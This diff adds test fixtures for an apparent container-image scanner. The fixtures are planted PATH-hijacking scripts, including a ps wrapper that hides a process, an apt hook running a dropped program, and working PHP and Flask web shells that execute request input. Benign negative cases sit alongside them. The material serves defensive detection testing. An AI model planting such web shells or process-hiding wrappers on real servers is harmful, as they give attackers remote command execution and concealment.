@@ -529,6 +529,35 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "package-source-at-address", path: "/etc/apt/apt.conf.d/01proxy", layer: 1},
 		hit{rule: "root-certificate-added", path: "/usr/local/share/ca-certificates/corp-proxy-root.crt", layer: 1})
 
+	// Commands hijacked on PATH and an apt hook running a dropped program:
+	// an ls in /usr/local/bin shadowing coreutils' own, apt's Pre-Invoke
+	// running /usr/local/sbin's telemetry; a python3 built into /usr/local,
+	// a ps wrapper with no packaged ps to shadow (the base has no procps)
+	// and a cleanup hook are not.
+	add("test/t-path-hook", nil, nil, one(
+		ent{name: "usr/local/bin/ps", mode: 0o755, body: "#!/bin/sh\n/bin/ps \"$@\" | grep -v wrk\n"},
+		ent{name: "usr/local/bin/ls", mode: 0o755, body: "#!/bin/sh\nexec /bin/ls \"$@\"\n"},
+		ent{name: "usr/local/bin/python3", mode: 0o755, body: elf("py")},
+		ent{name: "usr/local/sbin/pkg-telemetry", mode: 0o755, body: "#!/bin/sh\ntrue\n"},
+		ent{name: "etc/apt/apt.conf.d/80-telemetry", body: "APT::Update::Pre-Invoke { \"/usr/local/sbin/pkg-telemetry --report || true\"; };\n"},
+		ent{name: "etc/apt/apt.conf.d/90-clean", body: "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n"}),
+		hit{rule: "path-shadows-system-command", path: "/usr/local/bin/ls", layer: 1},
+		hit{rule: "apt-hook-runs-unpackaged-program", path: "/etc/apt/apt.conf.d/80-telemetry", layer: 1})
+
+	// Web shells that pass request input through a variable or read the raw
+	// body, in PHP and in a Flask view; a PHP page that reads a parameter and
+	// runs a fixed command, and a Flask view that runs a fixed command, are
+	// not.
+	add("test/t-webshell-indirect", nil, nil, one(
+		ent{name: "var/www/html/lib/health.php", body: "<?php\n$c = $_REQUEST['q'];\nif ($c) { echo shell_exec($c); }\n"},
+		ent{name: "var/www/html/wp-content/uploads/cache.php", body: "<?php @eval(file_get_contents('php://input')); ?>\n"},
+		ent{name: "opt/api/debug_view.py", body: "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route(\"/debug\")\ndef dbg():\n    cmd = request.args.get(\"c\", \"\")\n    return subprocess.check_output(cmd, shell=True)\n"},
+		ent{name: "var/www/html/status.php", body: "<?php\n$page = $_GET['page'];\n$out = shell_exec('uptime');\necho htmlspecialchars($page) . $out;\n"},
+		ent{name: "opt/api/ok_view.py", body: "from flask import request\nimport subprocess\nname = request.args.get('n')\nout = subprocess.check_output(['uptime'])\n"}),
+		hit{rule: "web-shell-indirect", path: "/var/www/html/lib/health.php", layer: 1},
+		hit{rule: "web-shell", path: "/var/www/html/wp-content/uploads/cache.php", layer: 1},
+		hit{rule: "web-shell-indirect", path: "/opt/api/debug_view.py", layer: 1})
+
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
 	// application's restart script killing its own workers, by name and by
